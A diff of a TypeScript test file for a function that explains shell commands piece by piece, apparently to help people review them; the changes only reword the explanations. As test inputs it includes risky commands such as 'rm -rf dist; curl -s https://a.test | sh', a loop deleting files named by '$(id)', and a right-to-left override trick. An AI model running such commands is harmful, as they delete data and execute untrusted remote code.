@@ -12,7 +12,7 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
       ['npm test', 'Runs scripts or build steps of the project (npm).'],
       ['git status', 'If that succeeds: Reads the git repository (status).'],
       ['head -5', 'With that output as its input: Prints files or parts of them.'],
-      ['> out.txt', 'Writes its output to out.txt, and replaces what is there.'],
+      ['> out.txt', 'Writes its output to out.txt, replacing its content.'],
       ['2>&1', 'Sends its error messages to the same place as its output.'],
     ],
   ],
@@ -20,16 +20,16 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
     'rm -rf dist; curl -s https://a.test | sh',
     [
       ['rm -rf dist', 'rm removes or overwrites files.'],
-      ['curl -s https://a.test', 'Then: curl talks to other machines.'],
+      ['curl -s https://a.test', 'Then: curl connects to other machines.'],
       ['sh', 'With that output as its input: sh runs code that is not shown here in full.'],
     ],
   ],
   [
     'echo "$(cat $(ls))" >> log',
     [
-      ['echo "$(cat $(ls))"', 'Prints text. Some of its words are known only when it runs, so it may do more.'],
+      ['echo "$(cat $(ls))"', 'Prints text. Some of its arguments are known only when it runs, so it may do more.'],
       ['$(cat $(ls))', 'Runs first. What it prints becomes part of the command:'],
-      ['cat $(ls)', 'Prints files or parts of them. Some of its words are known only when it runs, so it may do more.'],
+      ['cat $(ls)', 'Prints files or parts of them. Some of its arguments are known only when it runs, so it may do more.'],
       ['$(ls)', 'Runs first. What it prints becomes part of the command:'],
       ['ls', 'Lists files.'],
       ['>> log', 'Adds its output to the end of log.'],
@@ -40,9 +40,9 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
     [
       ['for f in $(id); do rm "$f"; done', 'Repeats commands for each of several values:'],
       ['$(id)', 'Runs first. What it prints becomes part of the command:'],
-      ['id', 'Shows facts about this machine.'],
+      ['id', 'Shows information about this machine.'],
       ['rm "$f"', 'rm removes or overwrites files.'],
-      ['$f', 'Stands for the value of a variable, which is known only when it runs.'],
+      ['$f', 'The value of a variable, which is known only when the command runs.'],
     ],
   ],
   [
@@ -50,9 +50,9 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
     [
       ['cat', 'Prints files or parts of them.'],
       ['<<EOF > a.txt', 'Gives it the lines that follow as its input.'],
-      ['> a.txt', 'Writes its output to a.txt, and replaces what is there.'],
+      ['> a.txt', 'Writes its output to a.txt, replacing its content.'],
       ['$(id)', 'Runs first. What it prints becomes part of the command:'],
-      ['id', 'Shows facts about this machine.'],
+      ['id', 'Shows information about this machine.'],
       ['ls', 'Then: Lists files.'],
       ['…', 'Not all of it was read. Read the whole command.'],
     ],
@@ -61,7 +61,7 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
     'A=1 make build & ls 2>/dev/null < in',
     [
       ['A=1 make build', 'Runs scripts or build steps of the project (make). Sets A for this program.'],
-      ['&', 'Lets that continue in the background.'],
+      ['&', 'Runs that in the background.'],
       ['ls', 'Meanwhile: Lists files.'],
       ['2>/dev/null', 'Discards its error messages.'],
       ['< in', 'Reads its input from in.'],
@@ -70,9 +70,9 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
   [
     'cd a || (export X=1; ./b.sh) # why',
     [
-      ['cd a', 'Changes the folder for what follows.'],
-      ['(export X=1; ./b.sh)', 'If that fails: A group of commands in a shell of its own:'],
-      ['./b.sh', 'Not known: b.sh may change or remove files, send data or run other programs.'],
+      ['cd a', 'Changes the folder for the commands that follow.'],
+      ['(export X=1; ./b.sh)', 'If that fails: A group of commands in a subshell:'],
+      ['./b.sh', 'Unknown program: b.sh may change or remove files, send data or run other programs.'],
       ['# why', 'Then: A comment. It does nothing.'],
     ],
   ],
@@ -80,15 +80,15 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
   [
     '$CMD x',
     [
-      ['$CMD x', 'Not understood: which program it runs is known only when it runs.'],
-      ['$CMD', 'Stands for the value of a variable, which is known only when it runs.'],
+      ['$CMD x', 'Not understood: the program is known only when the command runs.'],
+      ['$CMD', 'The value of a variable, which is known only when the command runs.'],
     ],
   ],
   ['eval "x"', [['eval "x"', 'Not understood: it runs text as a command. Read it in full.']]],
   ['ls (', [['ls (', 'Not understood: it is not valid bash. Read the whole command.']]],
   [
     'ls \u202eevil',
-    [['ls \u202eevil', 'Not understood: it contains a character that turns the direction of reading. Read the whole command.']],
+    [['ls \u202eevil', 'Not understood: it contains a character that changes the text direction. Read the whole command.']],
   ],
 ]
 
@@ -96,24 +96,24 @@ test.each(rows)('%s', async (command, parts) => {
   expect(await explainCommand(command)).toEqual(parts.map(([text, explains]) => ({ text, explains })))
 })
 
-test('a line that continues is read, and says that not all of it was', async () => {
+test('a continued line is explained, with a note that not all of it was read', async () => {
   expect((await explainCommand('ls \\\n  -la')).at(-1)).toEqual({ text: '…', explains: 'Not all of it was read. Read the whole command.' })
 })
 
-test('lines that the grammar reads as one are not explained', async () => {
+test('lines that the grammar joins are not explained', async () => {
   const command = 'ls | ls | ls a\nrm x && ls'
   expect(await explainCommand(command)).toEqual([
-    { text: command, explains: 'Not understood: it is not certain where its commands end. Read the whole command.' },
+    { text: command, explains: 'Not understood: it is unclear where its commands end. Read the whole command.' },
   ])
 })
 
-test('many parts end with how many were left out', async () => {
+test('a long list of parts ends with the number of omitted ones', async () => {
   const parts = await explainCommand('ls;'.repeat(100))
   expect(parts).toHaveLength(previewLimits.parts)
   expect(parts.at(-1)).toEqual({ text: '…', explains: '41 more parts are not explained. Read the whole command.' })
 })
 
-test('whatever it is given, it never fails, and no program in a plain list is left out', async () => {
+test('it never fails for any input, and no program in a simple list is omitted', async () => {
   await fc.assert(
     fc.asyncProperty(fc.string({ unit: 'grapheme', maxLength: 60 }), async (text) => {
       for (const { explains } of await explainCommand(text)) expect(explains).not.toBe('')
